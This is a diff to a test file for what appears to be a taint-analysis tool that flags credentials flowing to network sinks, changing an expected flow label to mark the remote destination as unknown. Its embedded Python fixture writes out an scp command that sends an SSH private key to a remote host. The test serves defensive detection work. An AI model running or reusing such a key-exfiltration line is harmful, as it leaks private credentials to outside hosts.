@@ -57,7 +57,8 @@ describe("red-team precision", () => {
             subprocess.run(["scp", "-i", KEY, KEY, f"x@{host}:/tmp/"], check=True)
       `,
     });
-    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/__init__.py:6 -> shell@pkg/__init__.py:6 x@* [call]"]);
+    // The destination is the remote host (unknown here), never the login name before `@`.
+    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/__init__.py:6 -> shell@pkg/__init__.py:6 ? [call]"]);
   });
 
   it("argparse defaults naming a credential path do not taint every parsed argument", async () => {
